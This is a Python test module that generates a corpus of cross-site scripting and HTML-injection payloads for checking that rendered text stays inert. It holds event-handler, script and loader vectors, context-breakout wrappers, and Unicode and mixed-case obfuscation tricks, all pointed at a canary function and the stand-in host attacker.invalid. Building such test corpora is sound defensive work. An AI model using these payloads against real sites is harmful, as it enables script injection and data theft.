"""Hostile texts, made of parts: what runs or fetches something, and what brings it out of the place it stands in.

``CODE`` in a part becomes a call of ``hit`` with the payload's number, ``URL`` an address that ends in it.
"""

import html
import sys
from collections.abc import Callable
from pathlib import Path

import hostile_markup

sys.path.append(str(Path(__file__).parents[1] / "faults"))
from strangers.payloads import TOGETHER, Canary, text_of

ADDRESS = "http://attacker.invalid"
# --- what runs or fetches -------------------------------------------------------------------------------------------
_HANDLERS = [
    f"<{tag} {event}=CODE>"
    for tag, event in (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("input autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("body", "onload"),
        ("b tabindex=0", "onmouseover"),
        ("b style='animation:1s x' ", "onanimationstart"),
    )
]
_LOADERS = [
    f"<{tag}>"
    for tag in (
        "img src=URL",
        "img srcset='URL 1x'",
        "link rel=stylesheet href=URL",
        "iframe src=URL",
        "object data=URL",
        "embed src=URL",
        "input type=image src=URL",
        "video poster=URL",
        "svg><image href=URL /></svg",
        "svg><use href='URL#x' /></svg",
        "p style='background:url(URL)'",
        "meta http-equiv=refresh content='0;url=URL'",
    )
]
_SCRIPTS = [
    "<script>CODE</script>",
    "<script src=URL></script>",
    "<svg><script>CODE</script></svg>",
    "<svg><animate onbegin=CODE attributeName=x dur=1s></svg>",
    '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
    "<iframe src='javascript:parent.CODE'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=CODE>'>",
    "<math href='javascript:CODE'>x</math>",
    "<a href='javascript:CODE'>x</a>",
    "<a href='data:text/html,<script>CODE</script>'>x</a>",
    "<form action='javascript:CODE'><button>x",
    "<style>@import 'URL';</style>",
    "<style>*{background:url(URL)}</style>",
]
_WORDS = ["javascript:CODE", "data:text/html,<script>CODE</script>", "red;background:url(URL)", "${CODE}", "URL"]
VECTORS = [*_HANDLERS, *_LOADERS, *_SCRIPTS, *_WORDS]

# --- what brings it out of where it stands --------------------------------------------------------------------------
WRAPS: dict[str, Callable[[str], str]] = {
    "as it is": lambda vector: vector,
    "out of an attribute": lambda vector: f'">{vector}',
    "out of a quoted attribute": lambda vector: f"'>{vector}",
    "out of a style": lambda vector: f"}}</style>{vector}",
    "out of a script": lambda vector: f'";</script>{vector}',
    "out of a field": lambda vector: f"</textarea></title></option></select>{vector}",
    "out of a comment": lambda vector: f"-->]]>{vector}",
    "out of a drawing": lambda vector: f"</text></svg></math>{vector}",
    "out of a table": lambda vector: f"</code></pre></td></tr></table></details>{vector}",
    "as entities": html.escape,
    "in capitals": lambda vector: vector.replace("script", "ScRiPt").replace("on", "oN").replace("src", "SRC"),
    "with a zero width": lambda vector: f"\u200b{vector[:4]}\u200d{vector}\ufeff",
    "from right to left": lambda vector: f"\u202e{vector}\u202c\u2066{vector}\u2069",
    "as Markdown": lambda vector: f"![x](URL)[x](javascript:CODE)\n\n```\n{vector}\n```\n<URL>",
    "as mathematics": lambda vector: f"$$\\href{{javascript:CODE}}{{\\text{{{vector}}}}}$$ \\({vector}\\)",
    "as a template": lambda vector: f"`${{CODE}}`{{{{ {vector} }}}}{{% raw %}}",
}
LONGEST = 2000  # characters of a payload of the strangers: longer ones are of no use in a page


def _made() -> list[str]:
    """Every vector in every second wrapping."""
    return [
        wrap(vector)
        for row, vector in enumerate(VECTORS)
        for column, wrap in enumerate(WRAPS.values())
        if (row + column) % 2 == 0
    ]


def _lent() -> list[str]:
    """The texts of the other tests: pages that are inert, and a stranger's folder."""
    canary = Canary(424242, Path("/marks"))
    kinds = [text_of(kind, canary).replace(canary.hit, "CODE").replace(canary.url, "URL") for kind in TOGETHER]
    return [*hostile_markup.TEXTS.values(), *(text for text in kinds if text.strip() and len(text) <= LONGEST)]


_ALL = list(dict.fromkeys([*_made(), *_lent()]))
COUNT = len(_ALL)


def payload(number: int) -> str:
    """Return a hostile text; ``number`` is taken modulo their count, and named by its call and its address."""
    number %= COUNT
    return _ALL[number].replace("CODE", f"hit({number})").replace("URL", f"{ADDRESS}/{number}")
